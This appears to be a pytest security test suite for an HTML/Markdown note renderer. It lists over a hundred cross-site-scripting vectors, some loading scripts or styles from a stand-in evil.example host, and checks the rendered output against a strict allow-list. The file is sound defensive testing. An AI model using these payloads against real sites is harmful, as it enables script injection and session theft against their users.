"""Nothing in an article runs. Every vector goes through the view, through an HTML5 parser, and under an allow-list of its own."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from justhtml import JustHTML

from data20.vault.apply import vault_of
from data20.vault.render import render_article, render_fragment

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "text <script>alert(1)</script> text",
    "<script>alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x on\x00error=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset='javascript:alert(1) 1x' src=img.png>",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form><input formaction='javascript:alert(1)' type=submit></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<b style='background:url(javascript:alert(1))'>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><script>alert(1)</script></title>",
    "<plaintext><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1) autoplay></video>",
    "<audio src='javascript:alert(1)' controls></audio>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://a.example/1'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='java\u00adscript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1) target=_top>x</a>",
    "<a href='x' ping='//evil.example'>x</a>",
    "<a name=location href=x>x</a>",
    "<img name=cookie id=body src=img.png>",
    "<form id=document><img name=getElementById></form>",
    "<div id=data20 class='callout internal' data-path='x'>x</div>",
    "<p title=\"'><img src=x onerror=alert(1)>\">x</p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a href=\"x\" title='a\"onmouseover=alert(1) b'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](a.md \"t\\\" onmouseover=alert(1) \\\"\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![\"onerror=\"alert(1)](img.png)",
    "![x\" onerror=\"alert(1)|300](img.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://a.example/x.png\"onerror=\"alert(1))",
    "[[javascript:alert(1)]]",
    "[[javascript://x%0aalert(1)|x]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    "[[\"onmouseover=alert(1) x=\"]]",
    "![[javascript:alert(1)]]",
    "![[x\" onerror=\"alert(1).png|300]]",
    "![[evil.svg]]",
    "#<script>alert(1)</script>",
    "#tag\"onclick=alert(1)",
    "# <img src=x onerror=alert(1)>",
    "# x {#\"onclick=alert(1)}",
    "# cookie\n# location\n# __proto__",
    "> [!\"onclick=alert(1) x=\"] t",
    "> [!<script>alert(1)</script>] t",
    "> [!note] <script>alert(1)</script>\n> x",
    "- [\"] x",
    "- [<] x",
    "```\"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$</span><script>alert(1)</script>$",
    "$$\n<script>alert(1)</script>\n$$",
    "%%<script>alert(1)</script>%%",
    "==<img src=x onerror=alert(1)>==",
    "x[^\"><script>]\n\n[^\"><script>]: <img src=x onerror=alert(1)>",
    "^[<script>alert(1)</script>]",
    "text ^id\"onclick=1",
    "[@a\"onclick=1, <script>alert(1)</script>]",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| x | y |",
    "---\nlang: 'ru\" onclick=alert(1) x=\"'\n---\nx",
    "---\ntitle: <script>alert(1)</script>\n---\n![[b]]",
    "<div>\n\n</div></div></section></article><script>alert(1)</script>",
    "</p></div><img src=x onerror=alert(1)>",
    "<a href='#/settings' class='internal'>x</a><label for=x>y</label>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b><p><a><table><a href=javascript:alert(1)>x",
    "<dialog open>x</dialog><portal src=x></portal>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<x onclick=alert(1)>x</x>",
    "<img src=img.png usemap=#m><map name=m><area href=javascript:alert(1)></map>",
)

def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


TAGS = _words(
    "a abbr audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure"
    " h1 h2 h3 h4 h5 h6 hr i img input ins kbd label li mark ol p pre q rp rt ruby s samp section small span strong sub"
    " summary sup table tbody td tfoot th thead time tr tt u ul var video wbr"
)
ATTRIBUTES = _words(
    "align alt aria-label checked class colspan controls data-anchor data-callout data-path data-task datetime dir disabled"
    " height href id lang loading open rel reversed role rowspan scope span src start tabindex target title type value width"
)
SAFE_LINK = re.compile(r"(?:#|api/attachments/|https?:|mailto:|tel:|ftp:|xmpp:|ircs?:|obsidian:|zotero:|geo:|magnet:|matrix:)")
SAFE_MEDIA = re.compile(r"(?:api/attachments/|https?:|data:image/(?:png|jpe?g|gif|webp);base64,)")
OUR_IDS = re.compile(r"(?:user-content-|fn-|fnref-|\^)")


def _nodes(node: object) -> Iterator[object]:
    pending = [node]
    while pending:
        current = pending.pop()
        yield current
        pending.extend(getattr(current, "children", None) or [])


def assert_harmless(html: str) -> None:
    """Parse `html` as a browser does and refuse any element, attribute or address that isn't known to be harmless."""
    for node in _nodes(JustHTML(html, fragment=True, sanitize=False).root):
        name = str(getattr(node, "name", ""))
        if name.startswith("#"):
            assert name != "#comment", "comments are dropped"
            continue
        assert name in TAGS, name
        attributes = {str(k): str(v or "") for k, v in (getattr(node, "attrs", None) or {}).items()}
        assert attributes.keys() <= ATTRIBUTES, (name, attributes)
        if "href" in attributes:
            assert SAFE_LINK.match(attributes["href"]), attributes["href"]
        if "src" in attributes:
            assert SAFE_MEDIA.match(attributes["src"]), attributes["src"]
        if name == "input":
            assert attributes.get("type") == "checkbox"
            assert "disabled" in attributes
        if "id" in attributes and not re.fullmatch("h[1-6]", name):
            assert OUR_IDS.match(attributes["id"]), attributes["id"]
        if attributes.get("target") == "_blank":
            assert attributes["rel"] == "noopener noreferrer"


def _view(text: str) -> str:
    vault = vault_of([("a.md", text.encode("utf-8", "surrogatepass")), ("b.md", b"---\ntitle: \"<img onerror=x>\"\n---\n# <script>x</script>\n"), ("img.png", b"x"), ("evil.svg", b"<svg onload=alert(1)>")])
    return render_article(vault, vault.articles["a.md"])


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives(vector: str) -> None:
    for text in (vector, f"x {vector} y", f"> {vector}", f"- {vector}", f"<div>\n{vector}\n</div>", f"<b>{vector}</b>", f"| {vector} |\n|---|"):
        assert_harmless(_view(text))
        assert_harmless(render_fragment(text))


def test_there_are_more_than_a_hundred_vectors() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 100


PIECES = st.sampled_from([*VECTORS, "<", ">", "\"", "'", "\n\n", "`", "[", "](", ")", "![[", "]]", "<b ", "</b>", "<div>", "</div>", "<a href=", "=", "\n> ", "\n- ", "|", "\\", "&", "<!--", "-->", "$", "%%"])


@settings(max_examples=80, deadline=None, derandomize=True)
@given(st.lists(PIECES, min_size=1, max_size=6).map("".join))
def test_no_mix_of_vectors_survives(text: str) -> None:
    assert_harmless(_view(text))


def test_the_check_itself_refuses_what_is_harmful() -> None:
    for bad in ("<script>x</script>", "<b onclick=x>y</b>", "<a href='javascript:x'>y</a>", "<p id=location>x</p>", "<input>"):
        with pytest.raises(AssertionError):
            assert_harmless(bad)
